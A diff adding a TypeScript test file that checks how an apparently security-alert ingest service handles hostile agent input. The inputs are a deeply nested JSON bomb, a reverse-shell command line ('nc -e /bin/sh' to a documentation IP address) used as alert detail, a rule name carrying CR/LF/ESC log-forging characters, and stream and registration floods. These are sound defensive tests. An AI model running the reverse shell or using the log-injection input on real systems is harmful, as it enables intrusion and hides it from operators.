@@ -1,0 +1,288 @@
+// Issue 13, ingest side: what the nastiest agent sends gets a specific answer, a metric, and
+// nothing else disturbed. Each case ends by showing that the service still serves a valid alert.
+import { randomUUID } from 'node:crypto';
+import { type ServiceError, status } from '@grpc/grpc-js';
+import { type AgentEvent, type AlertServiceClient, RejectCode } from '@tripwire/proto';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import {
+  AgentSession,
+  connect,
+  event,
+  type RunningIngest,
+  register,
+  rowsFor,
+  startIngest,
+  submit,
+  until,
+  useEnvironment,
+} from './ingest-harness.js';
+
+const env = useEnvironment();
+const DETAIL_LIMIT = 65_536;
+let ingest: RunningIngest;
+let client: AlertServiceClient;
+
+beforeAll(async () => {
+  ingest = await startIngest(env, {
+    MAX_STREAMS_PER_HOST: '2',
+    AGENT_STREAM_MAX_BUFFERED_BYTES: '65536',
+  });
+  client = connect(ingest.address);
+});
+afterAll(async () => {
+  client?.close();
+  await ingest?.stop();
+});
+
+const agent = () => register(client, `hostile-${randomUUID().slice(0, 8)}`);
+const metricsText = async () => (await fetch(`${ingest.httpUrl}/metrics`)).text();
+const counter = async (line: RegExp) => Number(line.exec(await metricsText())?.[1] ?? 0);
+
+/** A valid alert on a fresh stream is stored and acknowledged: the service is still serving. */
+async function stillServes(agentToken: string, hostId: string) {
+  const session = new AgentSession(client, agentToken, true);
+  const ok = event(hostId);
+  session.send([ok]);
+  await session.waitForAcks([ok.alertId]);
+  session.end();
+  expect((await session.status).code).toBe(status.OK);
+}
+
+/** Sends `bad` then a valid alert on one stream; returns the rejection of `bad`, if any. */
+async function sendThenValid(agentToken: string, hostId: string, bad: AgentEvent) {
+  const session = new AgentSession(client, agentToken, true);
+  const ok = event(hostId);
+  session.send([bad, ok]);
+  await session.waitForAcks([ok.alertId]);
+  session.end();
+  await session.status;
+  return session;
+}
+
+describe('row 2: a 10,000-deep event_detail_json', () => {
+  it('is rejected EVENT_DETAIL_TOO_DEEP on the stream and INVALID_ARGUMENT on SubmitAlert; the stream goes on', async () => {
+    const a = await agent();
+    const deep = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
+    const bad = event(a.hostId, { eventDetailJson: deep });
+    const session = await sendThenValid(a.agentToken, a.hostId, bad);
+    await until(() => session.rejections.length === 1);
+    expect(session.rejections[0]).toMatchObject({
+      alertId: bad.alertId,
+      code: RejectCode.REJECT_CODE_EVENT_DETAIL_TOO_DEEP,
+      reason: expect.stringMatching(/deeper than 64 levels/),
+    });
+    const err = (await submit(
+      client,
+      a.agentToken,
+      event(a.hostId, { eventDetailJson: deep }),
+    ).catch((e) => e)) as ServiceError;
+    expect(err.code).toBe(status.INVALID_ARGUMENT);
+    expect(err.details).toMatch(/REJECT_CODE_EVENT_DETAIL_TOO_DEEP/);
+    expect(await rowsFor(env, [bad.alertId])).toEqual([]);
+    await stillServes(a.agentToken, a.hostId);
+  });
+});
+
+describe('row 4: a reverse shell padded with 70 KB of arguments', () => {
+  it('is stored clipped, marked "truncated" with the original size, and acknowledged', async () => {
+    const a = await agent();
+    const cmdline = `nc -e /bin/sh 203.0.113.7 4444 ${'-v '.repeat(24_000)}`;
+    const detailJson = JSON.stringify({ pid: 31337, cmdline, user: 'www-data' });
+    const before = await counter(/^tripwire_ingest_alerts_clipped_total (\d+)/m);
+    const padded = event(a.hostId, { ruleName: 'reverse-shell', eventDetailJson: detailJson });
+    const session = new AgentSession(client, a.agentToken, true);
+    session.send([padded]);
+    await session.waitForAcks([padded.alertId]);
+    expect(session.rejections).toEqual([]);
+    session.end();
+    await session.status;
+
+    const [row] = await rowsFor(env, [padded.alertId]);
+    expect(row.rule_name).toBe('reverse-shell');
+    expect(row.event_detail).toMatchObject({
+      pid: 31337,
+      user: 'www-data',
+      truncated: { event_detail_bytes: Buffer.byteLength(detailJson) },
+    });
+    expect(row.event_detail.cmdline).toMatch(/^nc -e \/bin\/sh 203\.0\.113\.7 4444 -v -v.*…$/);
+    expect(Buffer.byteLength(JSON.stringify(row.event_detail))).toBeLessThanOrEqual(DETAIL_LIMIT);
+    expect(await counter(/^tripwire_ingest_alerts_clipped_total (\d+)/m)).toBe(before + 1);
+
+    // SubmitAlert stores it the same way.
+    const unary = event(a.hostId, { eventDetailJson: detailJson });
+    expect(await submit(client, a.agentToken, unary)).toEqual({
+      alertId: unary.alertId,
+      duplicate: false,
+    });
+    const [unaryRow] = await rowsFor(env, [unary.alertId]);
+    expect(unaryRow.event_detail.truncated.event_detail_bytes).toBe(Buffer.byteLength(detailJson));
+    await stillServes(a.agentToken, a.hostId);
+  });
+});
+
+describe('row 5: an agent clock an hour fast', () => {
+  it('is stored at the server time, flagged with clock_skew_us and agent_timestamp_us, and acknowledged', async () => {
+    const a = await agent();
+    const agentUs = (Date.now() + 3_600_000) * 1000;
+    const fast = event(a.hostId, { timestampUs: agentUs });
+    const before = Date.now();
+    const session = new AgentSession(client, a.agentToken, true);
+    session.send([fast]);
+    await session.waitForAcks([fast.alertId]);
+    expect(session.rejections).toEqual([]);
+    session.end();
+    await session.status;
+
+    const [row] = await rowsFor(env, [fast.alertId]);
+    expect(row.occurred_at.getTime()).toBeGreaterThanOrEqual(before - 1);
+    expect(row.occurred_at.getTime()).toBeLessThanOrEqual(Date.now() + 1);
+    expect(row.event_detail).toMatchObject({
+      path: '/etc/passwd',
+      pid: 1234,
+      agent_timestamp_us: agentUs,
+    });
+    // About an hour ahead, measured against the server's receive time.
+    expect(row.event_detail.clock_skew_us).toBeGreaterThan(3_500_000_000);
+    expect(row.event_detail.clock_skew_us).toBeLessThanOrEqual(3_600_000_000);
+    expect(await counter(/^tripwire_ingest_clock_skew_alerts_total (\d+)/m)).toBeGreaterThan(0);
+    await stillServes(a.agentToken, a.hostId);
+  });
+});
+
+describe('row 9: a 200 KB alert_id', () => {
+  it('is quoted back clipped in the rejection, and no log line carries it whole', async () => {
+    const a = await agent();
+    const huge = 'x'.repeat(200_000);
+    const session = await sendThenValid(a.agentToken, a.hostId, event(a.hostId, { alertId: huge }));
+    await until(() => session.rejections.length === 1);
+    const [rejection] = session.rejections;
+    expect(rejection!.code).toBe(RejectCode.REJECT_CODE_INVALID_ALERT_ID);
+    expect(rejection!.alertId).toBe(`${'x'.repeat(64)}…`);
+    expect(rejection!.reason.length).toBeLessThan(200);
+    const err = (await submit(client, a.agentToken, event(a.hostId, { alertId: huge })).catch(
+      (e) => e,
+    )) as ServiceError;
+    expect(err.code).toBe(status.INVALID_ARGUMENT);
+    expect(err.details.length).toBeLessThan(200);
+    expect(ingest.logs.some((line) => line.includes('x'.repeat(100)))).toBe(false);
+    await stillServes(a.agentToken, a.hostId);
+  });
+});
+
+describe('row 10: a rule name with CR, LF and ESC', () => {
+  it('is rejected INVALID_RULE_NAME with the name quoted escaped; free text elsewhere is untouched', async () => {
+    const a = await agent();
+    const forged = event(a.hostId, { ruleName: 'ok\r\n{"level":50,"msg":"forged"}\u001b[2K' });
+    const err = (await submit(client, a.agentToken, forged).catch((e) => e)) as ServiceError;
+    expect(err.code).toBe(status.INVALID_ARGUMENT);
+    expect(err.details).toMatch(/control characters.*REJECT_CODE_INVALID_RULE_NAME/);
+    expect(err.details).toContain('\\r\\n');
+    expect(await rowsFor(env, [forged.alertId])).toEqual([]);
+    await stillServes(a.agentToken, a.hostId);
+  });
+});
+
+describe('row 8: an agent that stops reading its stream', () => {
+  it('is cut off RESOURCE_EXHAUSTED past AGENT_STREAM_MAX_BUFFERED_BYTES, counted; it reconnects and is served', async () => {
+    const a = await agent();
+    const session = new AgentSession(client, a.agentToken, true);
+    await until(() => session.commands.length > 0, 10_000, 'the rules on open');
+    session.call.pause();
+    const cutBefore = await counter(
+      /^tripwire_ingest_limits_hit_total\{limit="agent_stream_budget"\} (\d+)/m,
+    );
+    // Each invalid alert earns a rejection of ~200 bytes the agent never reads.
+    const badName = 'r'.repeat(300);
+    for (let i = 0; i < 40; i++) {
+      session.send(Array.from({ length: 250 }, () => event(a.hostId, { ruleName: badName })));
+      const cut = await counter(
+        /^tripwire_ingest_limits_hit_total\{limit="agent_stream_budget"\} (\d+)/m,
+      );
+      if (cut > cutBefore) break;
+    }
+    await until(
+      async () =>
+        (await counter(/^tripwire_ingest_limits_hit_total\{limit="agent_stream_budget"\} (\d+)/m)) >
+        cutBefore,
+      10_000,
+      'the slow agent cut off',
+    );
+    session.call.resume();
+    const ended = await session.status;
+    expect(ended.code).toBe(status.RESOURCE_EXHAUSTED);
+    expect(ended.details).toMatch(/stopped reading.*65536 bytes.*reconnect and resend/);
+    await stillServes(a.agentToken, a.hostId);
+  });
+});
+
+describe('row 11: more alert streams for one host than MAX_STREAMS_PER_HOST', () => {
+  it('refuses the third RESOURCE_EXHAUSTED, counted; once one closes a new one is served', async () => {
+    const a = await agent();
+    const open = [
+      new AgentSession(client, a.agentToken, true),
+      new AgentSession(client, a.agentToken, true),
+    ];
+    for (const s of open) await until(() => s.commands.length > 0, 10_000, 'a stream open');
+    const third = new AgentSession(client, a.agentToken, true);
+    const refused = await third.status;
+    expect(refused.code).toBe(status.RESOURCE_EXHAUSTED);
+    expect(refused.details).toMatch(/already has 2 open alert streams \(MAX_STREAMS_PER_HOST=2\)/);
+    expect(await metricsText()).toMatch(
+      /^tripwire_ingest_limits_hit_total\{limit="streams_per_host"\} [1-9]/m,
+    );
+    open[0]!.end();
+    await open[0]!.status;
+    await stillServes(a.agentToken, a.hostId);
+    open[1]!.end();
+    await open[1]!.status;
+  });
+});
+
+describe('row 11: RegisterAgent in a loop, and long-lived connections', () => {
+  it('refuses registrations past REGISTER_RATE_LIMIT_PER_MINUTE per address; agents already enrolled are served', async () => {
+    const limited = await startIngest(env, { REGISTER_RATE_LIMIT_PER_MINUTE: '3' });
+    const c = connect(limited.address);
+    try {
+      const first = await register(c, `loop-${randomUUID().slice(0, 8)}`);
+      await register(c, `loop-${randomUUID().slice(0, 8)}`);
+      await register(c, `loop-${randomUUID().slice(0, 8)}`);
+      const err = (await register(c, 'loop-4').catch((e) => e)) as ServiceError;
+      expect(err.code).toBe(status.RESOURCE_EXHAUSTED);
+      expect(err.details).toMatch(/too many RegisterAgent calls.*REGISTER_RATE_LIMIT_PER_MINUTE=3/);
+      // A wrong token is slowed down the same way, before it is checked.
+      const guess = (await register(c, 'loop-5', 'x'.repeat(32)).catch((e) => e)) as ServiceError;
+      expect(guess.code).toBe(status.RESOURCE_EXHAUSTED);
+      const ok = event(first.hostId);
+      expect(await submit(c, first.agentToken, ok)).toEqual({
+        alertId: ok.alertId,
+        duplicate: false,
+      });
+    } finally {
+      c.close();
+      await limited.stop();
+    }
+  });
+
+  it('asks a connection older than GRPC_MAX_CONNECTION_AGE_MS to go away; the agent reconnects', async () => {
+    const aging = await startIngest(env, {
+      GRPC_MAX_CONNECTION_AGE_MS: '1000',
+      GRPC_MAX_CONNECTION_AGE_GRACE_MS: '500',
+    });
+    const c = connect(aging.address);
+    try {
+      const a = await register(c, `aging-${randomUUID().slice(0, 8)}`);
+      const session = new AgentSession(c, a.agentToken, true);
+      const ended = await session.status;
+      expect(ended.code).not.toBe(status.OK);
+      const again = new AgentSession(c, a.agentToken, true);
+      const ok = event(a.hostId);
+      again.send([ok]);
+      await again.waitForAcks([ok.alertId]);
+      again.end();
+      await again.status;
+    } finally {
+      c.close();
+      await aging.stop();
+    }
+  });
+});
